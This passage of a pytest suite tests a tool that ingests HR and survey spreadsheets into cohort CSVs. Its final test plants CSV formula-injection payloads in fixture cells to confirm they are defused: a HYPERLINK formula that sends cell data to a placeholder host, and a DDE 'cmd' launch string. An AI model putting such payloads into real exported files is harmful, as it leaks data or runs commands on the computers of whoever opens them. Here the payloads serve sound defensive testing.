    for name in ("Department name", "Team name", "Programme name", "Survey name", "Scale name", "Company name",
                 "Filename", "Birth year", "Manager", "Mentor ID", "Pair"):
        assert not looks_like_identifier(name), name


def test_line_breaks_inside_hr_text_cells_become_spaces_and_are_counted(raw):
    rows = _csv_rows(raw / "hr.csv")
    j = rows[0].index("Department")
    rows[3][j] = "Finance\nand Risk"                       # a properly quoted two-line cell (spreadsheet row 4)
    _write_csv_rows(raw / "hr.csv", rows)
    report = _ingest(raw)
    assert report["cohort"]["ok"], report["cohort"]        # load_cohort would refuse a line break
    assert _input(report, "hr.csv")["line_breaks_replaced"] == 1
    assert "E103,program,junior,PR2,29,Finance and Risk," in (raw.parent / "out" / "participants.csv").read_text()


# ---------------------------------------------------------------------------------------------- second review


def test_hr_text_is_trimmed_nfc_normalised_and_freed_of_zero_width_characters(raw):
    import unicodedata

    rows = _csv_rows(raw / "hr.csv")
    head = rows[0]
    dep, pid = head.index("Department"), head.index("Personnel no.")
    rows[5][dep] = "Sales "                                        # E105, row 6: a trailing space
    rows[7][dep] = "\u00a0Sales\u202f"                             # E107, row 8: no-break spaces around it
    rows[2][dep] = unicodedata.normalize("NFD", "Réseau")          # E102, row 3: decomposed é
    rows[1][dep] = "R\u00e9seau"                                   # E101, row 2: composed é, unchanged
    rows[3][pid] = "E103\u200b"                                    # E103, row 4: zero-width space in the id
    _write_csv_rows(raw / "hr.csv", rows)
    report = _ingest(raw)
    assert report["cohort"]["ok"], report["cohort"]
    part = {r["participant_id"]: r for r in csv.DictReader((raw.parent / "out" / "participants.csv").open(encoding="utf-8"))}
    assert part["E105"]["department"] == part["E107"]["department"] == "Sales"
    assert part["E102"]["department"] == part["E101"]["department"] == "R\u00e9seau"
    assert "E103" in part                                          # and it still joins its survey responses
    assert _input(report, "hr.csv")["text_normalised"] == 4
    assert _input(report, "post.csv")["text_normalised"] == 0


def test_survey_ids_and_answers_are_nfc_normalised_and_counted(raw):
    import unicodedata

    _set_cell(raw / "post.csv", 2, "EmpID", "E101\u2060")        # a word joiner after the id
    _set_cell(raw / "post.csv", 3, "EmpID", "\ufeffE102 ")       # a BOM character and a space
    _set_cell(raw / "post.csv", 4, "Q1_1", unicodedata.normalize("NFD", "Strongly agree\u200b"))
    report = _ingest(raw)
    assert report["cohort"]["ok"], report["cohort"]
    assert _input(report, "post.csv")["text_normalised"] == 3
    resp = (raw.parent / "out" / "responses.csv").read_text()
    assert "E101,post,2025-07-08,4,4,2,4" in resp and "E102,post,2025-07-10,3,4,3,3" in resp


def test_id_differing_from_an_hr_id_only_in_case_says_so(raw):
    _set_cell(raw / "post.csv", 2, "EmpID", "e101")
    _set_cell(raw / "post.csv", 3, "EmpID", "E102\u200b")      # invisible character: the same id after normalising
    probs = _problems(raw)
    assert len(probs) == 1, [str(p) for p in probs]
    p = _one(probs, file="post.csv", row=2, column="EmpID")
    assert p.message == ("respondent id 'e101' is not in the HR extract, but 'E101' is: it differs only in case "
                         "(ids are compared exactly)")
    assert p.fix.startswith("correct the case of the id to 'E101'") and "add the employee" not in p.fix


def test_anchor_labels_match_after_nfc_and_quote_folding(raw):
    import unicodedata

    cb = (raw / "codebook.yaml").read_text(encoding="utf-8")
    assert "5: Strongly agree" in cb and "1: Strongly disagree" in cb
    (raw / "codebook.yaml").write_text(cb.replace("5: Strongly agree", "5: \"Tout \u00e0 fait d'accord\"")
                                       .replace("1: Strongly disagree", "1: Pas du tout d'accord"), encoding="utf-8")
    _set_cell(raw / "post.csv", 4, "Q1_1", unicodedata.normalize("NFD", "Tout \u00e0 fait d\u2019accord"))
    _set_cell(raw / "post.csv", 4, "Q1_3", "Pas du tout d\u2018accord")
    report = _ingest(raw)
    assert report["cohort"]["ok"], report["cohort"]
    assert "E104,post,2025-07-09,5,4,1,5" in (raw.parent / "out" / "responses.csv").read_text()


def test_one_export_under_two_survey_entries_is_a_mapping_problem(raw):
    _mapping(raw, lambda m: m["surveys"][1].update(file="./pre.csv", submitted_on="RecordedDate"))
    probs = _problems(raw)
    assert len(probs) == 1, [str(p) for p in probs]
    p = _one(probs, file="mapping.yaml", row=None, column="surveys.1.file")
    assert "surveys.0 and surveys.1 both read ./pre.csv" in p.message


def _workbook_with_hidden_first_sheet(raw, hide_first=True, hide_row=None, sheet=None):
    rows = _csv_rows(raw / "post.csv")
    wb = openpyxl.Workbook()
    old = wb.active
    old.title = "Responses (v1)"
    for r in rows:
        old.append(r)
    old["E4"] = "1"                                     # an older answer of E104
    if hide_first:
        old.sheet_state = "hidden"
    ws = wb.create_sheet("Responses")
    for r in rows:
        ws.append(r)
    if hide_row:
        ws.row_dimensions[hide_row].hidden = True
    wb.save(raw / "post.xlsx")
    (raw / "post.csv").unlink()
    _mapping(raw, lambda m: m["surveys"][1].update(file="post.xlsx", **({"sheet": sheet} if sheet else {})))


def test_hidden_first_sheet_is_not_read_by_default(raw):
    _workbook_with_hidden_first_sheet(raw)
    probs = _problems(raw)
    assert len(probs) == 1, [str(p) for p in probs]
    p = _one(probs, file="post.xlsx", row=None, column=None)
    assert "first sheet, 'Responses (v1)', is hidden" in p.message and "['Responses']" in p.message
    assert "surveys.1.sheet" in p.fix


def test_two_visible_sheets_warn_and_hidden_rows_are_counted(raw, tmp_path, capsys):
    _workbook_with_hidden_first_sheet(raw, hide_first=False, hide_row=4)
    report = _ingest(raw)
    post = _input(report, "post.xlsx")
    assert post["sheet"] == "Responses (v1)" and post["hidden_rows"] == 0
    assert any("2 visible sheets ['Responses (v1)', 'Responses']; the first, 'Responses (v1)', was read" in w
               for w in report["warnings"])
    _mapping(raw, lambda m: m["surveys"][1].update(sheet="Responses"))
    assert main(["ingest", str(raw / "mapping.yaml"), "--out", str(tmp_path / "cli")]) == 0
    out = capsys.readouterr().out
    assert "post.xlsx: 6 rows read, 6 written (xlsx, sheet 'Responses', one header row)" in out
    assert "warning: post.xlsx: 1 row(s) of sheet 'Responses' are hidden in the workbook" in out and "row(s) 4." in out
    report = json.loads((tmp_path / "cli" / "ingest_report.json").read_text())
    assert _input(report, "post.xlsx")["hidden_rows"] == 1
    assert "visible sheets" not in " ".join(report["warnings"])
    assert "E104,post,2025-07-09,5,4,1,5" in (tmp_path / "cli" / "responses.csv").read_text()


def test_key_file_with_a_byte_order_mark_gives_the_key_of_the_environment(raw, tmp_path, monkeypatch):
    key_file = tmp_path / "secret" / "pseudonym.key"
    key_file.parent.mkdir()
    key_file.write_bytes(b"\xef\xbb\xbf" + KEY.encode() + b"\r\n")     # Windows Notepad's "UTF-8 with BOM"
    key_file.chmod(0o600)
    _mapping(raw, lambda m: m.update(pseudonymise=True, key_file=str(key_file)))
    by_file = _ingest(raw, tmp_path / "a")
    _mapping(raw, lambda m: m.pop("key_file"))
    monkeypatch.setenv("RMSTUDY_PSEUDONYM_KEY", KEY)
    by_env = _ingest(raw, tmp_path / "b")
    assert by_file["warnings"] == by_env["warnings"]
    assert (tmp_path / "a" / "participants.csv").read_text() == (tmp_path / "b" / "participants.csv").read_text()


def test_colliding_wave_values_and_hr_values_labels_are_mapping_problems(raw):
    _mapping(raw, lambda m: (m["hr"]["values"]["role"].update({"graduate": "senior"}),
                             m["surveys"][1].pop("wave"),
                             m["surveys"][1].update(wave_column="Submitted",
                                                    wave_values={"6 months": "post", "6  Months": "pre"})))
    probs = _problems(raw)
    assert {(p.file, p.row, p.column) for p in probs} == {
        ("mapping.yaml", None, "hr.values.role.graduate"), ("mapping.yaml", None, "surveys.1.wave_values.6  Months")}
    p = _one(probs, column="hr.values.role.graduate")
    assert p.message.startswith("labels 'Graduate' and 'graduate' of hr.values.role are the same label for ingest")
    assert "'junior' and 'senior'" in p.message
    p = _one(probs, column="surveys.1.wave_values.6  Months")
    assert p.message.startswith("labels '6 months' and '6  Months' of surveys.1.wave_values")


def test_wave_values_target_that_is_not_a_wave_is_one_mapping_problem(raw):
    rows = _csv_rows(raw / "post.csv")
    rows[0].append("Round")
    for r in rows[1:]:
        r.append("6 months")
    _write_csv_rows(raw / "post.csv", rows)
    _mapping(raw, lambda m: (m["surveys"][1].pop("wave"),
                             m["surveys"][1].update(wave_column="Round",
                                                    wave_values={"6 months": "Post", "Follow-up": "post2"})))
    probs = _problems(raw)
    assert [(p.file, p.row, p.column) for p in probs] == [
        ("mapping.yaml", None, "surveys.1.wave_values.6 months"), ("mapping.yaml", None, "surveys.1.wave_values.Follow-up")]
    assert probs[0].message == "'Post' is not a wave of study.yaml (its waves are ['pre', 'post'])"


def test_numeric_missing_value_code_matches_as_a_number(raw):
    _mapping(raw, lambda m: m.update(missing_values=[-99]))
    _set_cell(raw / "post.csv", 2, "Q1_2", "-99")
    _set_cell(raw / "post.csv", 3, "Q1_2", "-99.0")
    _set_cell(raw / "post.csv", 5, "Q1_2", "-99,0")
    report = _ingest(raw)
    assert _input(report, "post.csv")["missing_value_codes"] == 3
    resp = (raw.parent / "out" / "responses.csv").read_text()
    assert "E101,post,2025-07-08,4,,2,4" in resp and "E105,post,2025-07-11,3,,3,2" in resp


def test_a_cell_longer_than_the_csv_modules_default_limit_is_read(raw):
    rows = _csv_rows(raw / "post.csv")
    rows[0].append("Comment")
    for k, r in enumerate(rows[1:]):
        r.append("x" * (200_000 if k == 2 else 10))
    _write_csv_rows(raw / "post.csv", rows)
    report = _ingest(raw)
    assert report["cohort"]["ok"]
    assert {"column": "Comment", "reason": "not mapped"} in _input(report, "post.csv")["dropped_columns"]


def test_long_values_are_cut_to_60_characters_in_messages(raw):
    long = "I think my team is great but " * 3000
    _set_cell(raw / "post.csv", 3, "Q1_1", long)
    _set_cell(raw / "hr.csv", 4, "Age", "x" * 500)
    probs = _problems(raw)
    p = _one(probs, file="post.csv", row=3, column="Q1_1")
    assert p.message.startswith("'" + long[:59] + "…' is neither a number nor an answer label")
    p = _one(probs, file="hr.csv", row=4, column="Age")
    assert p.message == "'" + "x" * 59 + "…' is not a number"
    assert max(len(str(p)) for p in probs) < 400


def test_cli_prints_participants_without_responses(raw, tmp_path, capsys):
    rows = _csv_rows(raw / "hr.csv")
    extra = list(rows[5])
    extra[:3] = ["E109", "Ivy Fixture", "ivy.fixture@example.org"]
    rows.append(extra)
    _write_csv_rows(raw / "hr.csv", rows)
    assert main(["ingest", str(raw / "mapping.yaml"), "--out", str(tmp_path / "out")]) == 0
    out = capsys.readouterr().out
    assert "participants without responses: 1 of 9 employee(s)" in out and "non-responders" in out


def test_text_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(raw, tmp_path):
    """Cells starting with =, +, -, @, tab or CR were written as is into the cohort CSVs (issue #11): opened in a
    spreadsheet, =HYPERLINK(...) or =cmd|... would run. Text gets a leading '; numbers, negative ones included, stay."""
    _set_cell(raw / "hr.csv", 2, "Department", '=HYPERLINK("http://example.invalid/?"&A1,"open")')
    _set_cell(raw / "hr.csv", 3, "Department", "@SUM(A1:A9)")
    _set_cell(raw / "hr.csv", 4, "Department", "-3")              # text that is a plain number: read as a number
    _set_cell(raw / "hr.csv", 5, "Department", "-")
    _set_cell(raw / "hr.csv", 6, "Department", "+cmd|' /C calc'!A0")
    _set_cell(raw / "hr.csv", 2, "Years of service", "-2")          # a negative number in a numeric column
    rep = _ingest(raw, tmp_path / "out")
    rows = {r["participant_id"]: r for r in csv.DictReader(open(tmp_path / "out" / "participants.csv"))}
    assert rows["E101"]["department"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"open")'
    assert rows["E102"]["department"] == "'@SUM(A1:A9)"
    assert rows["E103"]["department"] == "-3" and rows["E104"]["department"] == "-"
    assert rows["E105"]["department"] == "'+cmd|' /C calc'!A0"
    assert rows["E101"]["tenure_years"] == "-2"
    (w,) = [w for w in rep["warnings"] if "leading '" in w]
    assert "participants.csv: 3" in w
    for name in ("participants.csv", "responses.csv", "employment.csv"):
        for row in csv.reader(open(tmp_path / "out" / name)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not cell.startswith("-") or re.fullmatch(r"-[\d.]*", cell), (name, cell)
